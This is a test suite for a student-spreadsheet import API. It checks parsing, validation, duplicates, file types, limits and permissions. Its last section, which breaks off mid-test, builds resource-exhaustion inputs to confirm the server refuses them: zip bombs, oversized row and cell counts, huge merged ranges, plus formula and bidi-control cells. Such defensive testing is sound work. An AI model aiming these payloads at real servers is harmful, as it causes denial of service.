import { randomInt } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { constants, deflateRawSync } from 'node:zlib';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { utils as xlsxUtils, write as xlsxWrite } from '@e965/xlsx';
import { MSG, type StudentSummary } from '@psicocampus/shared/domain';
import { SERVER_MSG } from '@psicocampus/shared/server-messages';
import { students } from '../../db/schema';
import { API_ROOT } from '../../paths';
import { fileUpload, multipartBody } from '../../../test/helpers/multipart';
import { inviteAndSignIn } from '../../../test/helpers/admin';
import { auditRowsOf, createStudent, userIdOf } from '../../../test/helpers/patients';
import { serverWithDemoSessions } from '../../../test/helpers/signed-in';
import { type TestServer } from '../../../test/helpers/test-server';
import {
  columnLetters,
  encryptedXlsx,
  handWrittenWorkbookParts,
  sheetDataXml,
  studentRow,
  TEMPLATE_HEADERS,
  xlsFile,
  xlsWithPassword,
  xlsWithUnknownRecords,
  xlsxFile,
  zipArchive,
  type HandWrittenWorkbook,
  type SheetCell,
  type ZipPart,
} from '../../../test/helpers/workbooks';
import { createImportParser } from './import-parser';
import {
  inspectZip,
  readFirstSheet,
  SPREADSHEET_LIMITS,
  SpreadsheetTooLargeError,
  UnreadableSpreadsheetError,
} from './spreadsheet';

let server: TestServer;
let lucia: string;
let martin: string;
let admin: string;
beforeAll(async () => {
  // Tens of thousands of rows in all: past the embedded database's limit,
  // which embedded-capacity.test.ts checks.
  ({ server, lucia, martin, admin } = await serverWithDemoSessions({
    embeddedMaxStudents: 1_000_000,
  }));
});
afterAll(() => server.close());

function upload(token: string, request: { payload: Buffer; headers: Record<string, string> }) {
  return server.call({ method: 'POST', url: '/api/students/import', token, ...request });
}
const importFile = (token: string, file: Buffer, name = 'estudiantes.xlsx') =>
  upload(token, fileUpload(file, name));

/** A file with the template's header and these rows. */
const sheetWith = (rows: SheetCell[][]) => xlsxFile([[...TEMPLATE_HEADERS], ...rows]);

const studentCount = () => server.server.database.db.$count(students);
const studentByEmail = async (email: string) => {
  const [row] = await server.server.database.db
    .select()
    .from(students)
    .where(eq(sql`lower(${students.email})`, email.toLowerCase()));
  return row;
};

describe('POST /api/students/import', () => {
  it("creates every row's student, assigned to and created by the importer", async () => {
    const file = await sheetWith([
      studentRow(1, { Nombres: 'Mónica', Apellidos: 'Yánez', 'Ingresos (USD)': 380.5 }),
      studentRow(2, { Nombres: 'Raúl', Apellidos: 'Zurita', Género: 'Masculino' }),
      studentRow(3),
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      ok: true,
      msg: SERVER_MSG.import.created(3),
      created: 3,
      duplicates: [],
    });
    const monica = await studentByEmail('importado1@estudiantes.test');
    expect(monica).toMatchObject({
      firstName: 'Mónica',
      lastName: 'Yánez',
      age: 20,
      gender: 'FEMENINO',
      phone: '0991234567',
      careerLevel: 'TERCERO',
      employmentStatus: 'DESEMPLEADO',
      income: 380.5,
      searchKey: 'monica yanez',
      assignedPsychologistId: await userIdOf(server, 'psychologist'),
      createdById: await userIdOf(server, 'psychologist'),
    });
    const { students: caseload } = (
      await server.call({ method: 'GET', url: '/api/students?q=zurita', token: lucia })
    ).json();
    expect(caseload.map((s: StudentSummary) => s.gender)).toEqual(['MASCULINO']);
  });

  it('maps columns by header, in any order, case and accents, and reads codes or labels', async () => {
    const file = await xlsxFile([
      [
        'SITUACION LABORAL',
        'email',
        'nombres',
        'APELLIDOS',
        'edad',
        'genero',
        'telefono',
        'Ciudad',
        'careerLevel',
        'CARRERA',
        'Columna extra',
      ],
      [
        'empleado/a',
        'orden1@estudiantes.test',
        'Iván',
        'Loor',
        30,
        'MASCULINO',
        '+593 98 765 4321',
        'Manta',
        'séptimo',
        'Derecho',
        'x',
      ],
      [
        'DESEMPLEADO',
        'orden2@estudiantes.test',
        'Noa',
        'Reyes',
        '19',
        'otro',
        '022345678',
        'Loja',
        'DECIMO',
        'Artes',
        '',
      ],
      [
        'Empleado/A',
        'orden3@estudiantes.test',
        'Eva',
        'Paz',
        25,
        'Femenino',
        '0991112233',
        'Tena',
        2,
        'Biología',
        null,
      ],
    ]);
    const response = await importFile(lucia, file);
    expect(response.json()).toMatchObject({ ok: true, created: 3 });
    expect(await studentByEmail('orden1@estudiantes.test')).toMatchObject({
      firstName: 'Iván',
      gender: 'MASCULINO',
      careerLevel: 'SEPTIMO',
      employmentStatus: 'EMPLEADO',
      income: null,
    });
    expect(await studentByEmail('orden2@estudiantes.test')).toMatchObject({
      age: 19,
      gender: 'OTRO',
      careerLevel: 'DECIMO',
      employmentStatus: 'DESEMPLEADO',
    });
    expect(await studentByEmail('orden3@estudiantes.test')).toMatchObject({
      careerLevel: 'SEGUNDO',
    });
  });

  it('writes nothing when any row is wrong, and lists each problem by row and Spanish column', async () => {
    const before = await studentCount();
    const file = await sheetWith([
      studentRow(10), // row 2: fine
      studentRow(11, { Edad: 150, Género: 'Masc' }), // row 3
      [], // row 4: empty, skipped
      studentRow(12, { 'Correo electrónico': 'IMPORTADO10@estudiantes.test' }), // row 5
      studentRow(13, { Nombres: null, Semestre: 'Undécimo', 'Ingresos (USD)': -5 }), // row 6
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    const body = response.json();
    expect(body.ok).toBe(false);
    expect(body.msg).toBe(SERVER_MSG.import.invalidRows(6));
    expect(body.errors).toHaveLength(6);
    expect(body.errors).toEqual(
      expect.arrayContaining([
        { row: 3, column: 'Edad', field: 'age', msg: MSG.students.ageRange },
        { row: 3, column: 'Género', field: 'gender', msg: MSG.students.invalidOption },
        {
          row: 5,
          column: 'Correo electrónico',
          field: 'email',
          msg: SERVER_MSG.import.duplicateInFile,
        },
        { row: 6, column: 'Nombres', field: 'firstName', msg: MSG.students.firstNameRequired },
        { row: 6, column: 'Semestre', field: 'careerLevel', msg: MSG.students.invalidOption },
        { row: 6, column: 'Ingresos (USD)', field: 'income', msg: MSG.students.incomeNegative },
      ]),
    );
    expect(await studentCount()).toBe(before);
    expect(await studentByEmail('importado10@estudiantes.test')).toBeUndefined();
  });

  it('reports e-mails already registered and leaves those students as they were', async () => {
    const existing = await createStudent(server, martin, {
      firstName: 'Original',
      email: 'ya.registrado@estudiantes.test',
    });
    const file = await sheetWith([
      studentRow(20),
      studentRow(21, {
        Nombres: 'Impostor',
        'Correo electrónico': 'YA.Registrado@estudiantes.test',
      }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      ok: true,
      msg: SERVER_MSG.import.created(1),
      created: 1,
      duplicates: [{ row: 3, email: 'YA.Registrado@estudiantes.test' }],
    });
    expect(await studentByEmail('ya.registrado@estudiantes.test')).toMatchObject({
      id: existing._id,
      firstName: 'Original',
      assignedPsychologistId: await userIdOf(server, 'psychologist2'),
      version: 1,
    });
  });

  it('reports the registered e-mails of a file of several batches in the order of its rows', async () => {
    // 1,200 rows are written in three statements, in e-mail order: 'zzz…' in
    // row 2 goes in the last one, 'aaa…' in the last row in the first.
    await createStudent(server, martin, { email: 'zzz.lote@estudiantes.test' });
    await createStudent(server, martin, { email: 'aaa.lote@estudiantes.test' });
    const rows = Array.from({ length: 1_200 }, (_, n) => studentRow(300_000 + n));
    rows[0] = studentRow(300_000, { 'Correo electrónico': 'zzz.lote@estudiantes.test' });
    rows[1_199] = studentRow(301_199, { 'Correo electrónico': 'aaa.lote@estudiantes.test' });
    const response = await importFile(lucia, await sheetWith(rows));
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({
      created: 1_198,
      duplicates: [
        { row: 2, email: 'zzz.lote@estudiantes.test' },
        { row: 1_201, email: 'aaa.lote@estudiantes.test' },
      ],
    });
  });

  it('never creates two students with one e-mail when two imports run at once', async () => {
    const rows = (emails: string[]) =>
      sheetWith(emails.map((email, n) => studentRow(n, { 'Correo electrónico': email })));
    const emails = ['a', 'b', 'c', 'd', 'e'].map((x) => `simultaneo.${x}@estudiantes.test`);
    const [first, second] = await Promise.all([
      rows(emails.slice(0, 4)).then((file) => importFile(lucia, file)),
      rows([...emails.slice(1)].reverse()).then((file) => importFile(martin, file)),
    ]);
    expect([first.statusCode, second.statusCode]).toEqual([200, 200]);
    const a = first.json();
    const b = second.json();
    expect(a.created + b.created).toBe(5);
    expect(a.duplicates.length + b.duplicates.length).toBe(3);
    for (const email of emails) {
      const rowsWithEmail = await server.server.database.db
        .select()
        .from(students)
        .where(eq(students.email, email));
      expect(rowsWithEmail).toHaveLength(1);
    }
  });

  it('takes the file by its content: a real .xlsx with another name is read', async () => {
    const file = await sheetWith([studentRow(30)]);
    const response = await importFile(lucia, file, 'lista.txt');
    expect(response.json()).toMatchObject({ ok: true, created: 1 });
  });

  it('reads a legacy .xls file', async () => {
    const file = xlsFile([
      [...TEMPLATE_HEADERS],
      [
        'Germán',
        'Íñiguez',
        22,
        'Masculino',
        'xls1@estudiantes.test',
        '0991234567',
        'Cuenca',
        'Economía',
        'Quinto',
        'Empleado/a',
        600,
      ],
      [
        'Rocío',
        'Vásquez',
        19,
        'FEMENINO',
        'xls2@estudiantes.test',
        '0987654321',
        'Quito',
        'Derecho',
        'PRIMERO',
        'Desempleado/a',
        null,
      ],
    ]);
    expect(file.subarray(0, 4).toString('hex')).toBe('d0cf11e0');
    const response = await importFile(lucia, file, 'estudiantes.xls');
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ ok: true, created: 2 });
    expect(await studentByEmail('xls1@estudiantes.test')).toMatchObject({
      firstName: 'Germán',
      lastName: 'Íñiguez',
      gender: 'MASCULINO',
      careerLevel: 'QUINTO',
      income: 600,
    });
  });

  it('reports problems of a legacy .xls file by row and column too', async () => {
    const file = xlsFile([
      [...TEMPLATE_HEADERS],
      [
        'Germán',
        'Íñiguez',
        'veinte',
        'Masculino',
        'xls3@estudiantes.test',
        '0991234567',
        'Cuenca',
        'Economía',
        'Quinto',
        'Empleado/a',
        null,
      ],
    ]);
    const response = await importFile(lucia, file, 'estudiantes.xls');
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      {
        row: 2,
        column: 'Edad',
        field: 'age',
        msg: SERVER_MSG.import.notANumber(SERVER_MSG.import.ageNotANumber, 'veinte'),
      },
    ]);
  });

  it('says what it read where a number was expected: "21 años", a date, words for an income', async () => {
    const file = await sheetWith([
      studentRow(50, { Edad: '21 años' }),
      studentRow(51, { Edad: new Date(Date.UTC(2005, 2, 1)) }),
      studentRow(52, { 'Ingresos (USD)': 'unos 300 dólares' }),
      studentRow(53, { Edad: `21\u202e años ${'x'.repeat(80)}` }),
      studentRow(54, { Edad: '' }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      {
        row: 2,
        column: 'Edad',
        field: 'age',
        msg: 'La edad debe ser un número entre 0 y 100; se leyó «21 años»',
      },
      {
        row: 3,
        column: 'Edad',
        field: 'age',
        msg: 'La edad debe ser un número entre 0 y 100; se leyó «2005-03-01»',
      },
      {
        row: 4,
        column: 'Ingresos (USD)',
        field: 'income',
        msg: 'Los ingresos deben ser un número; se leyó «unos 300 dólares»',
      },
      {
        row: 5,
        column: 'Edad',
        field: 'age',
        // Direction controls are left out of the echo, and a long cell is cut.
        msg: `La edad debe ser un número entre 0 y 100; se leyó «21 años ${'x'.repeat(32)}…»`,
      },
      // A blank age is still simply missing.
      { row: 6, column: 'Edad', field: 'age', msg: MSG.students.ageRequired },
    ]);
  });

  it('stores formula cells and text starting with = as plain data, never evaluating them', async () => {
    const file = await sheetWith([
      studentRow(40, {
        Carrera: { formula: 'CONCATENATE("Inge","niería")', result: 'Ingeniería' },
      }),
      studentRow(41, { Ciudad: '=1+1' }),
      studentRow(42, { Ciudad: { formula: 'B4&"ito"' } }),
      studentRow(43, { Edad: { formula: '10*2', result: 20 } }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.json()).toMatchObject({ ok: true, created: 4 });
    expect((await studentByEmail('importado40@estudiantes.test'))?.career).toBe('Ingeniería');
    expect((await studentByEmail('importado41@estudiantes.test'))?.city).toBe('=1+1');
    expect((await studentByEmail('importado42@estudiantes.test'))?.city).toBe('=B4&"ito"');
    expect((await studentByEmail('importado43@estudiantes.test'))?.age).toBe(20);
  });

  it('reads e-mails Excel turned into links and text in several runs', async () => {
    const file = await sheetWith([
      studentRow(50, {
        'Correo electrónico': {
          text: 'enlace@estudiantes.test',
          hyperlink: 'mailto:enlace@estudiantes.test',
        },
        Apellidos: { richText: [{ text: 'Gómez ' }, { text: 'Vera', font: { bold: true } }] },
      }),
    ]);
    expect((await importFile(lucia, file)).json()).toMatchObject({ ok: true, created: 1 });
    expect(await studentByEmail('enlace@estudiantes.test')).toMatchObject({
      lastName: 'Gómez Vera',
    });
  });

  it('names the template columns a file lacks', async () => {
    const file = await xlsxFile([
      [
        'Nombres',
        'Apellidos',
        'Género',
        'Correo electrónico',
        'Teléfono',
        'Ciudad',
        'Carrera',
        'Situación laboral',
      ],
      [
        'Ana',
        'Mora',
        'Femenino',
        'falta@estudiantes.test',
        '0991234567',
        'Quito',
        'Medicina',
        'Empleado/a',
      ],
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      ok: false,
      msg: SERVER_MSG.import.missingColumns('Edad, Semestre', 'Estudiantes', 1),
    });
  });

  it('finds the header row below a title, and names the sheet and row it read when it finds none', async () => {
    const titled = await xlsxFile([
      ['Lista de estudiantes — Facultad de Medicina'],
      ['Preparada por la secretaría, noviembre de 2026'],
      [...TEMPLATE_HEADERS],
      ...[studentRow(73), studentRow(74)],
    ]);
    const imported = await importFile(lucia, titled);
    expect(imported.json()).toMatchObject({ ok: true, created: 2 });
    expect(await studentByEmail('importado74@estudiantes.test')).toBeDefined();

    // The students on the second sheet; the first holds a title and a note.
    const workbook = new ExcelJS.Workbook();
    const cover = workbook.addWorksheet('Portada');
    cover.addRow(['Importación de noviembre']);
    cover.addRow(['Nombres', 'Apellidos', 'Ver la hoja siguiente']);
    const data = workbook.addWorksheet('Estudiantes');
    data.addRow([...TEMPLATE_HEADERS]);
    data.addRow(studentRow(75));
    const response = await importFile(lucia, Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(response.statusCode).toBe(400);
    const missing = TEMPLATE_HEADERS.filter(
      (header) => !['Nombres', 'Apellidos', 'Ingresos (USD)'].includes(header),
    );
    expect(response.json()).toEqual({
      ok: false,
      msg: SERVER_MSG.import.missingColumns(missing.join(', '), 'Portada', 2),
    });
  });

  it('says so when the file has no students', async () => {
    const blankSheet = await xlsxFile([]);
    const headerOnly = await xlsxFile([[...TEMPLATE_HEADERS]]);
    const blankRows = await xlsxFile([[...TEMPLATE_HEADERS], [], ['', '  ', null]]);
    for (const file of [blankSheet, headerOnly, blankRows]) {
      const response = await importFile(lucia, file);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.empty });
    }
  });

  it('refuses a file that is not a spreadsheet, whatever its name', async () => {
    const png = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489',
      'hex',
    );
    const csv = Buffer.from('Nombres,Apellidos\nAna,Mora\n');
    for (const [file, name] of [
      [png, 'estudiantes.xlsx'],
      [csv, 'estudiantes.xls'],
      [Buffer.from('<html></html>'), 'estudiantes.xlsx'],
    ] as const) {
      const response = await importFile(lucia, file, name);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: MSG.import.wrongType });
    }
  });

  it('says a damaged spreadsheet cannot be read', async () => {
    const truncated = (await sheetWith([studentRow(60)])).subarray(0, 600);
    const fakeXls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(700, 1)]);
    for (const file of [truncated, fakeXls]) {
      const response = await importFile(lucia, file);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.unreadable.file });
    }
  });

  it('keeps a phone number shown with its leading 0, and reports one that lost it', async () => {
    const file = await xlsxFile(
      [
        [...TEMPLATE_HEADERS],
        studentRow(76, { Teléfono: 991234567 }),
        studentRow(77, { Teléfono: 991234568 }),
      ],
      (sheet) => {
        sheet.getCell('F2').numFmt = '0000000000';
      },
    );
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toEqual([
      {
        row: 3,
        column: 'Teléfono',
        field: 'phone',
        msg: SERVER_MSG.import.phoneAsNumber('991234568'),
      },
    ]);

    const shown = await xlsxFile(
      [[...TEMPLATE_HEADERS], studentRow(78, { Teléfono: 991234567 })],
      (sheet) => {
        sheet.getCell('F2').numFmt = '0000000000';
      },
    );
    expect((await importFile(lucia, shown)).json()).toMatchObject({ ok: true, created: 1 });
    expect((await studentByEmail('importado78@estudiantes.test'))?.phone).toBe('0991234567');

    // The same in a legacy .xls, whose cells carry their format too.
    const sheet = xlsxUtils.aoa_to_sheet([
      [...TEMPLATE_HEADERS],
      [
        'Germán',
        'Íñiguez',
        20,
        'Masculino',
        'fono79@estudiantes.test',
        991234567,
        'Cuenca',
        'Economía',
        'Quinto',
        'Empleado/a',
        null,
      ],
    ]);
    sheet['F2']!.z = '0000000000';
    const workbook = xlsxUtils.book_new();
    xlsxUtils.book_append_sheet(workbook, sheet, 'Estudiantes');
    const xls = Buffer.from(xlsxWrite(workbook, { type: 'buffer', bookType: 'xls' }) as Buffer);
    expect((await importFile(lucia, xls, 'estudiantes.xls')).json()).toMatchObject({
      ok: true,
      created: 1,
    });
    expect((await studentByEmail('fono79@estudiantes.test'))?.phone).toBe('0991234567');
  });

  it('answers the files LibreOffice writes: an .ods, and an .xls whose phone became a number', async () => {
    // Both made by LibreOffice Calc 7.4 from the same one-student CSV (test/fixtures).
    const fixture = (name: string) => readFileSync(path.join(API_ROOT, 'test/fixtures', name));
    const ods = await importFile(lucia, fixture('libreoffice-students.ods'), 'estudiantes.ods');
    expect(ods.statusCode).toBe(400);
    expect(ods.json()).toEqual({ ok: false, msg: MSG.import.odsFile });
    const xls = await importFile(
      lucia,
      fixture('libreoffice-phone-as-number.xls'),
      'estudiantes.xls',
    );
    expect(xls.statusCode).toBe(400);
    expect(xls.json().errors).toEqual([
      {
        row: 2,
        column: 'Teléfono',
        field: 'phone',
        msg: SERVER_MSG.import.phoneAsNumber('991234567'),
      },
    ]);
  });

  it('says what a LibreOffice .ods or a password-protected workbook is, and what to do', async () => {
    const XLS_ROW = [
      'Germán',
      'Íñiguez',
      20,
      'Masculino',
      'clave61@estudiantes.test',
      '0991234567',
      'Cuenca',
      'Economía',
      'Quinto',
      'Empleado/a',
      null,
    ];
    const ods = zipArchive([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet', stored: true },
      { name: 'META-INF/manifest.xml', content: '<manifest:manifest/>' },
      { name: 'content.xml', content: '<office:document-content/>' },
    ]);
    const cases = [
      [ods, 'estudiantes.ods', MSG.import.odsFile],
      [encryptedXlsx(), 'estudiantes.xlsx', SERVER_MSG.import.encryptedFile],
      [
        xlsWithPassword([[...TEMPLATE_HEADERS], XLS_ROW]),
        'estudiantes.xls',
        SERVER_MSG.import.encryptedFile,
      ],
    ] as const;
    for (const [file, name, msg] of cases) {
      const response = await importFile(lucia, file, name);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg });
    }
    // The same .xls without its password record imports: the record is what is recognised.
    const plain = await importFile(
      lucia,
      xlsFile([[...TEMPLATE_HEADERS], XLS_ROW]),
      'estudiantes.xls',
    );
    expect(plain.json()).toMatchObject({ ok: true, created: 1 });
  });

  it('asks for a file when none is sent', async () => {
    const requests = [
      multipartBody([{ name: 'nota', content: 'sin archivo' }]),
      multipartBody([
        { name: 'archivo', filename: 'a.xlsx', content: await sheetWith([studentRow(70)]) },
      ]),
      multipartBody([
        { name: 'file', filename: '', contentType: 'application/octet-stream', content: '' },
      ]),
      multipartBody([]),
      { payload: Buffer.from('{"file":"x"}'), headers: { 'content-type': 'application/json' } },
    ];
    for (const request of requests) {
      const response = await upload(lucia, request);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: MSG.import.noFile });
    }
    expect(await studentByEmail('importado70@estudiantes.test')).toBeUndefined();
  });

  it('refuses a file over 5 MB', async () => {
    const big = Buffer.concat([
      Buffer.from('504b0304', 'hex'),
      Buffer.alloc(5 * 1024 * 1024 - 3, 0x41),
    ]);
    const response = await importFile(lucia, big);
    expect(response.statusCode).toBe(413);
    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooLarge });
  });

  it('refuses more than 5,000 students in one file', async () => {
    const rows = Array.from({ length: 5_001 }, (_, n) => studentRow(100_000 + n));
    const response = await importFile(lucia, await sheetWith(rows));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooManyRows });
    expect(await studentByEmail('importado100000@estudiantes.test')).toBeUndefined();
  });

  it('imports 5,000 students in one go', async () => {
    const before = await studentCount();
    const rows = Array.from({ length: 5_000 }, (_, n) => studentRow(200_000 + n));
    const response = await importFile(martin, await sheetWith(rows));
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ ok: true, created: 5_000, duplicates: [] });
    expect(await studentCount()).toBe(before + 5_000);
  });

  it('is refused to an admin, and to no one signed in', async () => {
    const file = await sheetWith([studentRow(80)]);
    const asAdmin = await importFile(admin, file);
    expect(asAdmin.statusCode).toBe(403);
    expect(asAdmin.json()).toEqual({ ok: false, msg: MSG.api.forbidden });
    expect((await importFile('', file)).statusCode).toBe(401);
    expect(await studentByEmail('importado80@estudiantes.test')).toBeUndefined();
  });

  it('is audited with its outcome', async () => {
    const rows = await auditRowsOf(server, 'student.import');
    expect(rows.map((row) => row.outcome)).toEqual(
      expect.arrayContaining(['success', 'invalid', 'denied']),
    );
    expect(rows.every((row) => row.recordType === 'import_batch')).toBe(true);
  });
});

describe('multipart bodies elsewhere', () => {
  it('are not accepted by other routes', async () => {
    const response = await server.call({
      method: 'POST',
      url: '/api/students',
      token: lucia,
      ...multipartBody([{ name: 'firstName', content: 'Ana' }]),
    });
    expect(response.statusCode).toBe(415);
    expect(response.json()).toEqual({ ok: false, msg: MSG.api.unsupportedMediaType });
  });
});

/** A hand-written .xlsx: the template's header, these rows, and whatever else `sheet` adds. */
const handWritten = (
  rows: Array<Array<string | number | null>>,
  sheet: Omit<HandWrittenWorkbook, 'sheetData'> = {},
) =>
  zipArchive(
    handWrittenWorkbookParts({
      sheetData: sheetDataXml([[...TEMPLATE_HEADERS], ...rows]),
      ...sheet,
    }),
  );
const plainRow = (n: number, overrides: Partial<Record<string, SheetCell>> = {}) =>
  studentRow(n, overrides) as Array<string | number | null>;

/**
 * A call, and how far it raised the process's peak resident memory (the
 * server runs in this process). The peak, not samples: an entry inflated
 * whole in one synchronous call would come and go between two samples.
 */
async function watched<T>(call: () => Promise<T>) {
  const peakBefore = process.resourceUsage().maxRSS;
  const result = await call();
  return { result, growth: (process.resourceUsage().maxRSS - peakBefore) * 1024 };
}
const MB = 1024 * 1024;

/**
 * A raw deflate stream of `head`, `block` repeated `times`, then `tail`,
 * built without ever holding the inflated whole (which would also hide the
 * server's own use of memory): each piece is deflated alone and fully
 * flushed, so that copies of it can follow one another.
 */
function deflatedSheet(head: string, block: Buffer, times: number, tail: string) {
  const flushed = (content: Buffer) =>
    deflateRawSync(content, { finishFlush: constants.Z_FULL_FLUSH });
  const segment = flushed(block);
  const deflated = Buffer.concat([
    flushed(Buffer.from(head)),
    ...Array.from({ length: times }, () => segment),
    deflateRawSync(Buffer.from(tail)),
  ]);
  return { deflated, inflatedSize: head.length + block.length * times + tail.length };
}

/** Why inspectZip refuses a file (it fails the test when it accepts it). */
async function refusal(file: Buffer): Promise<SpreadsheetTooLargeError> {
  const error: unknown = await inspectZip(file).then(
    () => new Error('inspectZip accepted the file'),
    (refused: unknown) => refused,
  );
  if (!(error instanceof SpreadsheetTooLargeError)) throw error;
  return error;
}

/** An .xlsx whose sheet part is this raw deflate stream. */
const workbookWithDeflatedSheet = (deflated: Buffer) =>
  zipArchive(
    handWrittenWorkbookParts({ sheetData: '' }).map((part) =>
      part.name === 'xl/worksheets/sheet1.xml'
        ? { name: part.name, content: deflated, preDeflated: true }
        : part,
    ),
  );

/** One megabyte that deflate packs about 40:1: mostly one letter, now and then another. */
function compressibleMegabyte(): Buffer {
  const block = Buffer.alloc(MB, 'a');
  for (let at = 0; at < block.length; at += randomInt(1, 256)) block[at] = 98 + randomInt(25);
  return block;
}

describe('files built to exhaust the server', () => {
  let nextRowNumber = 330;

  it('refuses a zip bomb whose sheet inflates past 50 MB, without ever holding it', async () => {
    // One cell of 64 MB of text: under every ratio limit, so that only the
    // 50 MB limit can refuse it.
    const { deflated, inflatedSize } = deflatedSheet(
      '<row r="1"><c r="A1" t="inlineStr"><is><t>',
      compressibleMegabyte(),
      64,
      '</t></is></c></row>',
    );
    const bomb = workbookWithDeflatedSheet(deflated);
    expect(inflatedSize / bomb.length).toBeLessThan(SPREADSHEET_LIMITS.maxRatio);
    expect(bomb.length).toBeLessThan(5 * MB);
    // Refused once 50 MB are through, one 64 KB chunk at a time.
    const refused = await refusal(bomb);
    expect(refused).toMatchObject({ excess: 'inflated-size' });
    expect(refused.inflatedBytes).toBeLessThan(50 * MB + 128 * 1024);

    const before = await studentCount();
    const { result: response, growth } = await watched(() => importFile(lucia, bomb));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooMuchContent });
    expect(growth).toBeLessThan(inflatedSize / 4);
    expect(await studentCount()).toBe(before);
  });

  it('refuses a part past 100:1 as soon as its first megabytes show it', async () => {
    // 4 GB of zeros in a 4 MB upload: the classic bomb; then 20 MB of them.
    const zeros = (megabytes: number) => {
      const { deflated } = deflatedSheet('', Buffer.alloc(MB), megabytes, '');
      return workbookWithDeflatedSheet(deflated);
    };
    for (const [bomb, inflatedSize] of [
      [zeros(4096), 4096 * MB],
      [zeros(20), 20 * MB],
    ] as const) {
      expect(bomb.length).toBeLessThan(5 * MB);
      // Refused after the first megabyte (the ratio is not judged on less).
      const refused = await refusal(bomb);
      expect(refused).toMatchObject({ excess: 'ratio' });
      expect(refused.inflatedBytes).toBeLessThan(MB + 128 * 1024);
      const { result: response, growth } = await watched(() => importFile(lucia, bomb));
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooMuchContent });
      expect(growth).toBeLessThan(inflatedSize / 4);
    }
  });

  it('refuses a sheet of 25,000 rows before parsing it', async () => {
    const emptyRows = Array.from({ length: 25_000 }, (_, n) => `<row r="${n + 3}"/>`).join('');
    const file = zipArchive(
      handWrittenWorkbookParts({
        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(300)]) + emptyRows,
      }),
    );
    expect(await refusal(file)).toMatchObject({ excess: 'rows' });
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooManyRows });
    expect(await studentByEmail('importado300@estudiantes.test')).toBeUndefined();
  });

  it('refuses more than 200,000 cells or shared strings before parsing them', async () => {
    const blankCells = Array.from({ length: 5_000 }, (_, r) => {
      const cells = Array.from(
        { length: 41 },
        (__, c) => `<c r="${columnLetters(c)}${r + 3}" s="0"/>`,
      );
      return `<row r="${r + 3}">${cells.join('')}</row>`;
    }).join('');
    const formattedBlanks = zipArchive(
      handWrittenWorkbookParts({
        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(310)]) + blankCells,
      }),
    );
    const strings = Array.from({ length: 200_001 }, (_, n) => `<si><t>${n.toString(36)}</t></si>`);
    const sharedStrings = zipArchive([
      ...handWrittenWorkbookParts({
        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(311)]),
      }),
      { name: 'xl/sharedStrings.xml', content: `<sst>${strings.join('')}</sst>` },
    ]);
    for (const file of [formattedBlanks, sharedStrings]) {
      expect(await refusal(file)).toMatchObject({ excess: 'cells' });
      const response = await importFile(lucia, file);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooMuchContent });
    }
    expect(await studentByEmail('importado310@estudiantes.test')).toBeUndefined();
  });

  it('refuses a zip of more than 1,000 parts', async () => {
    const parts: ZipPart[] = [
      ...handWrittenWorkbookParts({
        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(320)]),
      }),
      ...Array.from({ length: 1_000 }, (_, n) => ({
        name: `xl/media/x${n}.bin`,
        content: 'x',
        stored: true,
      })),
    ];
    const response = await importFile(lucia, zipArchive(parts));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.tooMuchContent });
  });

  // A few bytes each that exceljs, left to itself, expands into one object per
  // cell of the range: over the whole sheet (A1:XFD1048576) the server would
  // hang until it ran out of memory. A million cells (100 to 200 MB, about a
  // second of a blocked server) is enough for a regression to fail this test
  // rather than hang it.
  it.each([
    [
      'merged cells',
      { afterSheetData: '<mergeCells count="1"><mergeCell ref="A3:J100002"/></mergeCells>' },
    ],
    [
      'a data validation',
      {
        afterSheetData:
          '<dataValidations count="1"><dataValidation type="list" sqref="A3:J100002"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
      },
    ],
    ['column widths', { beforeSheetData: '<cols><col min="1" max="1000000" width="12"/></cols>' }],
    [
      'a defined name',
      { definedNames: '<definedName name="Todo">Estudiantes!$A$3:$J$100002</definedName>' },
    ],
  ] as const)(
    'reads a sheet with %s over a million cells without building them',
